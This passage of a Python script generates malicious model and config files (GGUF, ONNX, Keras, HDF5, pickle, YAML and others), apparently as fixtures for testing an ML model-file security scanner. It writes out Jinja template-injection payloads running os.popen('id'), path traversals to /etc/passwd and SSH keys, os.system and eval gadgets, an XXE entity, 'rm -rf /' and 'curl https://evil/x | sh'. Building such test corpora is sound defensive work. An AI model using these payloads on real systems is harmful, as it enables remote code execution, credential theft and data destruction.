                 "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}", "{{ lipsum.__globals__['os'].popen('id').read() }}",
                 "{{ self.__init__.__globals__ }}", "{{ namespace.__init__.__globals__ }}", "{{ [].__class__.mro() }}", "{{ ''['__cla'~'ss__'] }}", "{{ request|attr('application') }}", "{%- import 'os' as os -%}"]
    for index, value in enumerate(templates):
        put(f'gguf-template-{index}.gguf', template(value))
    put('gguf-counts.gguf', file([], counts=(2**63, 0)))
    put('gguf-entries.gguf', file([], counts=(0, 2**62)))
    put('gguf-string.gguf', file([struct.pack('<Q', 2**63) + b'x']))
    put('gguf-array.gguf', file([text('x') + struct.pack('<IIQ', 9, 8, 2**61)]))
    put('gguf-dims.gguf', file([], text('a') + struct.pack('<I4QIQ', 4, 2**32, 2**32, 2, 1, 0, 0) + b'\0' * 64, (1, 0)))
    put('gguf-dims-count.gguf', file([], text('a') + struct.pack('<I', 2**31) + b'\0' * 64, (1, 0)))
    put('gguf-offset.gguf', file([], text('a') + struct.pack('<I1QIQ', 1, 4, 0, 2**60) + b'\0' * 64, (1, 0)))
    put('gguf-truncated.gguf', file([], text('a') + struct.pack('<I1QIQ', 1, 4096, 0, 0) + b'\0' * 64, (1, 0)))
    put('gguf-trailing-zip.gguf', file([]) + zip_of({'archive/data.pkl': SYSTEM}))


def onnx():
    def field(number, data):
        size, head = len(data), b''
        while size > 127:
            head += bytes([size & 127 | 128])
            size >>= 7
        return bytes([number << 3 | 2]) + head + bytes([size]) + data

    def model(location, more=b'', node=b'', opset=b''):
        tensor = b'\x08\x04\x10\x01' + field(8, b'w') + field(13, field(1, b'location') + field(2, location)) + more + b'\x70\x01'
        graph = field(1, node or field(1, b'x') + field(2, b'y') + field(4, b'Identity')) + field(2, b'g') + field(5, tensor)
        return b'\x08\x08' + field(7, graph) + field(8, b'\x10\x11') + opset
    for index, location in enumerate([b'../../../etc/passwd', b'/etc/passwd', b'a/../../b', b'..\\..\\x', b'C:\\x', b'http://169.254.169.254/x', b'file:///etc/passwd', b'\\\\host\\share', b'./../x', b'data\0.bin', b'~/.ssh/id_rsa']):
        put(f'onnx-external-{index}.onnx', model(location))
    put('onnx-negative-offset.onnx', model(b'x.data', field(13, field(1, b'offset') + field(2, b'-1'))))
    put('onnx-huge-length.onnx', model(b'x.data', field(13, field(1, b'length') + field(2, b'99999999999999999999'))))
    put('onnx-python-op.onnx', model(b'x.data', node=field(4, b'PyOp') + field(7, b'ai.onnx.contrib')))
    put('onnx-custom-domain.onnx', model(b'x.data', node=field(4, b'Evil') + field(7, b'evil.domain')))
    put('onnx-truncated.onnx', model(b'x.data')[:-9])
    put('onnx-trailing-zip.onnx', model(b'x.data') + zip_of({'archive/data.pkl': SYSTEM}))
    sub = field(1, field(4, b'If') + field(5, field(1, b'then') + field(6, field(5, b'\x08\x04\x10\x01' + field(8, b'w') + field(13, field(1, b'location') + field(2, b'../x')) + b'\x70\x01'))))
    put('onnx-subgraph-external.onnx', b'\x08\x08' + field(7, sub + field(2, b'g')))
    attribute = field(5, field(1, b'value') + field(5, b'\x08\x04\x10\x01' + field(13, field(1, b'location') + field(2, b'../x')) + b'\x70\x01') + b'\xa0\x01\x04')
    put('onnx-attribute-external.onnx', b'\x08\x08' + field(7, field(1, field(4, b'Constant') + attribute) + field(2, b'g')))


def keras():
    code = base64.b64encode(b'\xe3' + b'\0' * 40).decode()
    lambdas = {'class_name': 'Lambda', 'config': {'name': 'l', 'function': [code, None, None], 'function_type': 'lambda'}}
    lambda3 = {'module': 'keras.layers', 'class_name': 'Lambda', 'registered_name': None, 'config': {'name': 'l', 'function': {'class_name': '__lambda__', 'config': {'code': code, 'defaults': None, 'closure': None}}}}
    layers = {
        'lambda': lambdas, 'lambda3': lambda3, 'os': {'module': 'os', 'class_name': 'system', 'config': 'id', 'registered_name': 'system'},
        'function': {'module': 'builtins', 'class_name': 'function', 'config': 'eval', 'registered_name': 'function'},
        'function-os': {'module': 'os', 'class_name': 'function', 'config': 'system', 'registered_name': 'function'},
        'get-file': {'module': 'keras.utils', 'class_name': 'function', 'config': 'get_file', 'registered_name': 'function'},
        'unsafe': {'module': 'keras.config', 'class_name': 'function', 'config': 'enable_unsafe_deserialization', 'registered_name': 'function'},
        'load-model': {'module': 'keras.models', 'class_name': 'function', 'config': 'load_model', 'registered_name': 'function'},
        'torch-wrapper': {'module': 'keras.layers', 'class_name': 'TorchModuleWrapper', 'config': {'module': {'__torch_module__': code}}, 'registered_name': None},
        'tfsm': {'module': 'keras.layers', 'class_name': 'TFSMLayer', 'config': {'filepath': '/tmp/x'}, 'registered_name': None},
        'vocabulary': {'module': 'keras.layers', 'class_name': 'StringLookup', 'config': {'vocabulary': '/etc/passwd'}, 'registered_name': None},
        'custom': {'module': 'evil', 'class_name': 'Layer', 'config': {}, 'registered_name': 'evil>Layer'},
        'wrapped': {'module': 'keras.layers', 'class_name': 'TimeDistributed', 'config': {'layer': lambda3}, 'registered_name': None},
        'registered': {'module': 'keras.layers', 'class_name': 'Dense', 'config': {}, 'registered_name': 'Custom>Lambda'},
        'src-saving': {'module': 'keras.src.saving.saving_lib', 'class_name': 'load_model', 'config': {}, 'registered_name': None},
        'subprocess-src': {'module': 'keras.src.utils.python_utils', 'class_name': 'function', 'config': 'func_load', 'registered_name': None},
    }
    for name, layer in layers.items():
        config = {'module': 'keras', 'class_name': 'Sequential', 'config': {'name': 's', 'layers': [layer]}, 'registered_name': None}
        put(f'keras-{name}.keras', zip_of({'metadata.json': json.dumps({'keras_version': '3.5.0'}), 'config.json': json.dumps(config), 'model.weights.h5': b'\x89HDF\r\n\x1a\n' + b'\0' * 100}))
    escaped = json.dumps({'class_name': 'Sequential', 'config': {'layers': [lambdas]}}).replace('Lambda', '\\u004cambda')
    put('keras-escaped.keras', zip_of({'metadata.json': '{}', 'config.json': escaped, 'model.weights.h5': b'x'}))
    put('keras-asset-pickle.keras', zip_of({'metadata.json': '{}', 'config.json': json.dumps({'class_name': 'Sequential', 'config': {}}), 'model.weights.h5': b'x', 'assets/x.pkl': SYSTEM}))
    try:
        import h5py
    except ImportError:
        return
    for name in ('lambda', 'lambda3', 'custom', 'tfsm'):
        for mode in ({}, {'libver': 'latest'}):
            with h5py.File(out / f'hdf5-{name}-{mode.get("libver", "old")}.h5', 'w', **mode) as file:
                file.attrs['keras_version'] = '2.15.0'
                file.attrs['model_config'] = json.dumps({'class_name': 'Sequential', 'config': {'name': 's', 'layers': [layers[name]]}})
                file.create_group('model_weights')
    with h5py.File(out / 'hdf5-fixed-string.h5', 'w') as file:
        file.attrs['model_config'] = json.dumps({'class_name': 'Sequential', 'config': {'layers': [lambdas]}}).encode()
    with h5py.File(out / 'hdf5-escaped.h5', 'w') as file:
        file.attrs['model_config'] = escaped
    with h5py.File(out / 'hdf5-shared-type.h5', 'w') as file:
        text = json.dumps({'class_name': 'Sequential', 'config': {'layers': [lambdas]}}).encode()
        import numpy
        file['named'] = numpy.dtype(f'S{len(text)}')
        file.attrs.create('model_config', numpy.bytes_(text), dtype=file['named'])
    with h5py.File(out / 'hdf5-config-list.h5', 'w') as file:
        file.attrs['model_config'] = [json.dumps({'class_name': 'Sequential', 'config': {'layers': [lambdas]}}), 'x']
    with h5py.File(out / 'hdf5-external-link.h5', 'w') as file:
        file['x'] = h5py.ExternalLink('/etc/passwd', '/')
    with h5py.File(out / 'hdf5-external-data.h5', 'w') as file:
        file.create_dataset('x', (10,), 'u1', external=[('/etc/passwd', 0, 10)])
    with h5py.File(out / 'hdf5-virtual.h5', 'w') as file:
        layout = h5py.VirtualLayout((10,), 'u1')
        layout[:] = h5py.VirtualSource('/etc/passwd', 'x', shape=(10,))
        file.create_virtual_dataset('x', layout)
    with h5py.File(out / 'hdf5-userblock.h5', 'w', userblock_size=512) as file:
        file.attrs['model_config'] = json.dumps({'class_name': 'Sequential', 'config': {'layers': [lambdas]}})
    raw = (out / 'hdf5-userblock.h5').read_bytes()
    put('hdf5-userblock-pickle.h5', SYSTEM.ljust(512, b'\0') + raw[512:])
    with h5py.File(out / 'hdf5-pickled-attribute.h5', 'w') as file:
        import numpy
        file.attrs['data'] = numpy.void(SYSTEM)
    with h5py.File(out / 'hdf5-dense-attributes.h5', 'w', libver='latest') as file:
        for index in range(30):
            file.attrs[f'a{index}'] = 'x' * 100
        file.attrs['model_config'] = json.dumps({'class_name': 'Sequential', 'config': {'layers': [lambdas]}})


def others():
    put('script.sh', b'#!/bin/sh\nrm -rf /\n')
    put('modeling.py', b'import os\nos.system("id")\n')
    put('library.so', b'\x7fELF\x02\x01\x01' + b'\0' * 200)
    put('program.exe', b'MZ\x90\0' + b'\0' * 200)
    put('page.html', b'<html><script>alert(1)</script></html>')
    put('config-remote.json', json.dumps({'auto_map': {'AutoModel': 'modeling.Evil'}}).encode())
    put('tokenizer_config.json', json.dumps({'chat_template': "{{ ''.__class__.__mro__ }}"}).encode())
    put('tokenizer_list.json', json.dumps({'chat_template': [{'name': 'x', 'template': "{{ cycler.__init__ }}"}]}).encode())
    put('tags.yaml', b'a: !!python/object/apply:os.system ["id"]\n')
    put('entity.pmml', b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><PMML>&e;</PMML>')
    put('chat_template.jinja', b"{{ ''.__class__.__mro__ }}")
    put('one-line.py', b"__import__('os').system('id')")
    put('notebook.ipynb', json.dumps({'nbformat': 4, 'cells': [{'cell_type': 'code', 'source': ['!id']}]}).encode())
    put('jsonpickle.json', json.dumps({'py/reduce': [{'py/function': 'os.system'}, {'py/tuple': ['id']}]}).encode())
    put('model_index.json', json.dumps({'_class_name': 'Pipeline', 'unet': ['os', 'system']}).encode())
    put('adapter_config.json', json.dumps({'auto_mapping': {'base_model_class': 'X', 'parent_library': 'evil'}}).encode())
    put('keras-architecture.json', json.dumps({'class_name': 'Sequential', 'config': {'layers': [{'class_name': 'Lambda', 'config': {'function': ['x', None, None]}}]}}).encode())
    put('install.txt', b'curl https://evil/x | sh\n')
    put('saved_model.pb', b'\x08\x01\x12\x20' + b'\x12\x1e\x0a\x1cReadFile PyFunc ........')
    put('duplicate-key.json', b'{"auto_map": {"AutoModel": "x.Y"}, "a": 1, "a": 2}')
    put('trailing-comma.json', b'{"auto_map": {"AutoModel": "x.Y"},}')
    put('lines.jsonl', b'{"a": 1}\n{"auto_map": {"AutoModel": "x.Y"}}\n')
    put('hydra.yaml', b'model:\n  _target_: os.system\n  command: id\n')
    put('hydra.json', b'{"model": {"_target_": "subprocess.run"}}')
    put('MLmodel', b'flavors:\n  python_function:\n    loader_module: evil\n')
    put('skops.skops', zip_of({'schema.json': json.dumps({'__module__': 'os', '__class__': 'system', '__loader__': 'TypeNode'})}))
    put('skops-method.skops', zip_of({'schema.json': json.dumps({'__module__': 'builtins', '__class__': 'dict', '__loader__': 'OperatorFuncNode'})}))
    put('open.py', b"print(open('/etc/passwd').read())")
    put('empty.pt', b'')
    put('zeros.bin', b'\0' * 1000)
    put('random.bin', bytes((i * 7919 + i * i * 31) % 256 for i in range(5000)))


gadgets()
opcodes()
for name, payload in {'system': SYSTEM, 'text': b"cos\nsystem\n(S'id'\ntR."}.items():
    wrap_all(payload, name)
zips()
tars()
safetensors()
gguf()
onnx()
keras()
others()
print(f'{len(list(out.iterdir()))} files')
